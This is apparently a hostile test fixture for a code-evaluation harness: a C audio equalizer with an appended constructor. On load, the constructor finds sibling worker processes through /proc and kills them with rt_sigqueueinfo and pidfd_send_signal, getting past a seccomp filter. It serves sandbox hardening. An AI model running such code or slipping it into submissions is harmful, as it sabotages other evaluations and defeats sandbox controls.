/* Hostile candidate -- attack class: killing other candidates' workers (signals by calls the
 * current seccomp filter does not check).
 *
 * What it does: correct.c, plus a constructor that probes its parent with signal 0 through
 * rt_sigqueueinfo and pidfd_open + pidfd_send_signal (so the calls are made even when no
 * neighbour is visible), then finds the other workers of its own harness (/proc/PID/cmdline
 * carries the same worker.py path as its own, same parent, pid != getpid()) and sends each
 * SIGKILL with rt_sigqueueinfo (si_code SI_QUEUE) and with pidfd_send_signal. A thread repeats
 * the search every 50 ms for 60 s, for workers that start later.
 *
 * Measured against the current harness, `--jobs 2` with tests/corpus/c/correct.c as neighbour:
 * both calls returned 0; the neighbour's verdict became error / resource_limit ("worker killed
 * by SIGKILL", 2/376 runs) while this file passed (376/376, speedup 0.15x). The filter only
 * checks the pid of kill/tkill/tgkill.
 *
 * Deserved under the new harness: disallowed_import for this file, and the neighbour still passes.
 */
#define _GNU_SOURCE
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#ifndef M_PI
#define M_PI 3.14159265358979323846
#endif

typedef struct { int type; double freq; double q; double gain_db; } eq_band;

enum { PEAKING, LOWSHELF, HIGHSHELF, LOWPASS, HIGHPASS, BANDPASS, NOTCH, ALLPASS };
enum { U8, S16LE, S24LE, S32LE, F32LE };

typedef struct {
    int channels, format, bps, frame_bytes, n_sections;
    double (*coef)[5];        /* per section: b0 b1 b2 a1 a2, normalised by a0 */
    double *z;                /* TDF-II state: [section][channel][2] */
    unsigned char *pending;   /* bytes of an incomplete frame */
    size_t n_pending;
} eq_t;

static int design(const eq_band *band, int sample_rate, double c[5])
{
    double f = band->freq, q = band->q, g = band->gain_db;
    if (!isfinite(f) || !isfinite(q) || !isfinite(g) || f <= 0 || f >= sample_rate / 2.0 || q <= 0)
        return -1;
    double a = pow(10.0, g / 40.0), w0 = 2 * M_PI * f / sample_rate;
    double cw = cos(w0), alpha = sin(w0) / (2 * q), k = 2 * sqrt(a) * alpha;
    double b0, b1, b2, a0, a1, a2;
    switch (band->type) {
    case PEAKING:
        b0 = 1 + alpha * a; b1 = -2 * cw; b2 = 1 - alpha * a;
        a0 = 1 + alpha / a; a1 = -2 * cw; a2 = 1 - alpha / a; break;
    case LOWSHELF:
        b0 = a * ((a + 1) - (a - 1) * cw + k); b1 = 2 * a * ((a - 1) - (a + 1) * cw);
        b2 = a * ((a + 1) - (a - 1) * cw - k); a0 = (a + 1) + (a - 1) * cw + k;
        a1 = -2 * ((a - 1) + (a + 1) * cw); a2 = (a + 1) + (a - 1) * cw - k; break;
    case HIGHSHELF:
        b0 = a * ((a + 1) + (a - 1) * cw + k); b1 = -2 * a * ((a - 1) + (a + 1) * cw);
        b2 = a * ((a + 1) + (a - 1) * cw - k); a0 = (a + 1) - (a - 1) * cw + k;
        a1 = 2 * ((a - 1) - (a + 1) * cw); a2 = (a + 1) - (a - 1) * cw - k; break;
    case LOWPASS:  b0 = (1 - cw) / 2; b1 = 1 - cw; b2 = (1 - cw) / 2; goto common;
    case HIGHPASS: b0 = (1 + cw) / 2; b1 = -(1 + cw); b2 = (1 + cw) / 2; goto common;
    case BANDPASS: b0 = alpha; b1 = 0; b2 = -alpha; goto common;
    case NOTCH:    b0 = 1; b1 = -2 * cw; b2 = 1; goto common;
    case ALLPASS:  b0 = 1 - alpha; b1 = -2 * cw; b2 = 1 + alpha; goto common;
    default: return -1;
    }
    goto done;
common:
    a0 = 1 + alpha; a1 = -2 * cw; a2 = 1 - alpha;
done:
    c[0] = b0 / a0; c[1] = b1 / a0; c[2] = b2 / a0; c[3] = a1 / a0; c[4] = a2 / a0;
    return 0;
}

void eq_destroy(void *handle)
{
    eq_t *eq = handle;
    if (!eq) return;
    free(eq->coef); free(eq->z); free(eq->pending); free(eq);
}

void *eq_create(int sample_rate, int channels, int format, const eq_band *bands, int n_bands)
{
    static const int bps[] = { 1, 2, 3, 4, 4 };
    if (sample_rate <= 0 || channels < 1 || format < U8 || format > F32LE || n_bands < 0 || (n_bands && !bands))
        return NULL;
    eq_t *eq = calloc(1, sizeof *eq);
    if (!eq) return NULL;
    eq->channels = channels; eq->format = format; eq->bps = bps[format];
    eq->frame_bytes = bps[format] * channels; eq->n_sections = n_bands;
    eq->coef = malloc(sizeof *eq->coef * (n_bands ? n_bands : 1));
    eq->z = calloc((size_t)(n_bands ? n_bands : 1) * channels * 2, sizeof *eq->z);
    eq->pending = malloc(eq->frame_bytes);
    if (!eq->coef || !eq->z || !eq->pending) { eq_destroy(eq); return NULL; }
    for (int i = 0; i < n_bands; i++)
        if (design(&bands[i], sample_rate, eq->coef[i])) { eq_destroy(eq); return NULL; }
    return eq;
}

static double decode(const eq_t *eq, const unsigned char *p)
{
    switch (eq->format) {
    case U8: return (p[0] - 128) / 128.0;
    case S16LE: return (int16_t)(p[0] | p[1] << 8) / 32768.0;
    case S24LE: {
        int32_t v = p[0] | p[1] << 8 | p[2] << 16;
        if (v & 0x800000) v -= 0x1000000;   /* sign extension */
        return v / 8388608.0;
    }
    case S32LE: return (int32_t)((uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24) / 2147483648.0;
    default: { float f; memcpy(&f, p, 4); return f; }
    }
}

static long long quantize(double y, double scale, long long lo, long long hi)
{
    double v = rint(y * scale);   /* round half to even in the default rounding mode */
    return v < lo ? lo : v > hi ? hi : (long long)v;
}

static void encode(const eq_t *eq, double y, unsigned char *p)
{
    long long v;
    switch (eq->format) {
    case U8: p[0] = (unsigned char)(quantize(y, 128.0, -128, 127) + 128); return;
    case S16LE: v = quantize(y, 32768.0, -32768, 32767); break;
    case S24LE: v = quantize(y, 8388608.0, -8388608, 8388607); break;
    case S32LE: v = quantize(y, 2147483648.0, -2147483648LL, 2147483647LL); break;
    default: { float f = (float)y; memcpy(p, &f, 4); return; }
    }
    for (int i = 0; i < eq->bps; i++)
        p[i] = (unsigned char)((unsigned long long)v >> (8 * i));
}

/* Equalize one complete frame from `in` into `out`. */
static void process_frame(eq_t *eq, const unsigned char *in, unsigned char *out)
{
    for (int ch = 0; ch < eq->channels; ch++) {
        double x = decode(eq, in + ch * eq->bps);
        for (int s = 0; s < eq->n_sections; s++) {
            const double *c = eq->coef[s];
            double *z = eq->z + ((size_t)s * eq->channels + ch) * 2;
            double y = c[0] * x + z[0];
            z[0] = c[1] * x - c[3] * y + z[1];
            z[1] = c[2] * x - c[4] * y;
            x = y;
        }
        encode(eq, x, out + ch * eq->bps);
    }
}

size_t eq_process(void *handle, const unsigned char *in, size_t n, unsigned char *out)
{
    eq_t *eq = handle;
    size_t fb = eq->frame_bytes, used = 0, written = 0;
    if (n == 0) return 0;
    if (eq->n_pending) {   /* complete the frame started by the previous call */
        size_t take = fb - eq->n_pending < n ? fb - eq->n_pending : n;
        memcpy(eq->pending + eq->n_pending, in, take);
        eq->n_pending += take; used = take;
        if (eq->n_pending < fb) return 0;
        process_frame(eq, eq->pending, out);
        written = fb; eq->n_pending = 0;
    }
    for (; used + fb <= n; used += fb, written += fb)
        process_frame(eq, in + used, out + written);
    memcpy(eq->pending, in + used, n - used);   /* keep the incomplete frame */
    eq->n_pending = n - used;
    return written;
}

/* ------------------------------------------------------------------ the attack */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef __NR_pidfd_open
#define __NR_pidfd_open 434
#endif
#ifndef __NR_pidfd_send_signal
#define __NR_pidfd_send_signal 424
#endif

/* The old seccomp filter checks the pid of kill/tkill/tgkill only: rt_sigqueueinfo and the
 * pidfd calls are not in it. rt_sigqueueinfo needs a negative si_code to reach another process. */
static long queue_signal(int pid, int sig)
{
    siginfo_t si;
    memset(&si, 0, sizeof si);
    si.si_signo = sig;
    si.si_code = SI_QUEUE;
    si.si_pid = getpid();
    si.si_uid = getuid();
    return syscall(SYS_rt_sigqueueinfo, pid, sig, &si);
}

static long pidfd_signal(int pid, int sig)
{
    int pfd = (int)syscall(__NR_pidfd_open, pid, 0);
    if (pfd < 0) return -1;
    long rc = syscall(__NR_pidfd_send_signal, pfd, sig, NULL, 0);
    close(pfd);
    return rc;
}

/* /proc/PID/cmdline (NUL-separated) into buf; its length, 0 when unreadable. */
static size_t read_cmdline(const char *pid, char *buf, size_t cap)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%.32s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, cap - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    return (size_t)n;
}

#define SCAN_FOR_S 60.0         /* keep hunting for new neighbours this long, then stop */
#define SCAN_EVERY_NS 50000000L

static char g_own_worker[512];  /* the worker.py path on our own command line */

/* The argument of a command line that ends in "worker.py" ("" if none). */
static const char *worker_arg(const char *cmd, size_t n)
{
    for (const char *a = cmd; a < cmd + n; a += strlen(a) + 1) {
        size_t l = strlen(a);
        if (l >= 9 && strcmp(a + l - 9, "worker.py") == 0) return a;
    }
    return "";
}

static int parent_of(const char *pid)
{
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%.32s/status", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    const char *p = strstr(buf, "\nPPid:");
    return p ? atoi(p + 6) : -1;
}

/* Every other worker of the same harness: same worker.py, same parent. Returns how many were hit. */
static int kill_neighbours(void)
{
    int hit = 0, self = (int)getpid(), parent = (int)getppid();
    DIR *d = opendir("/proc");
    if (!d) return 0;
    struct dirent *e;
    char cmd[4096];
    while ((e = readdir(d))) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end || pid <= 0 || pid == self) continue;
        size_t n = read_cmdline(e->d_name, cmd, sizeof cmd);
        if (!n || !g_own_worker[0] || strcmp(worker_arg(cmd, n), g_own_worker) != 0) continue;
        if (parent_of(e->d_name) != parent) continue;
        long a = queue_signal((int)pid, SIGKILL);
        long b = pidfd_signal((int)pid, SIGKILL);
        fprintf(stderr, "[signal_neighbour] SIGKILL to worker %ld: rt_sigqueueinfo %ld, pidfd_send_signal %ld\n",
                pid, a, b);
        hit++;
    }
    closedir(d);
    return hit;
}

static void *hunter(void *arg)
{
    (void)arg;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        kill_neighbours();
        struct timespec pause = {0, SCAN_EVERY_NS};
        nanosleep(&pause, NULL);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) * 1e-9 < SCAN_FOR_S);
    return NULL;
}

__attribute__((constructor)) static void signal_neighbours(void)
{
    char cmd[4096];
    size_t n = read_cmdline("self", cmd, sizeof cmd);
    snprintf(g_own_worker, sizeof g_own_worker, "%s", n ? worker_arg(cmd, n) : "");
    /* probe first (signal 0: existence check only) with both calls, whether or not a neighbour
     * is visible: in a PID namespace of its own the worker sees none */
    long a = queue_signal((int)getppid(), 0);
    long b = pidfd_signal((int)getppid(), 0);
    fprintf(stderr, "[signal_neighbour] probe of parent %d: rt_sigqueueinfo %ld, pidfd_send_signal %ld\n",
            (int)getppid(), a, b);
    kill_neighbours();
    pthread_t t;
    if (pthread_create(&t, NULL, hunter, NULL) == 0)   /* neighbours that start later */
        pthread_detach(t);
    errno = 0;
}
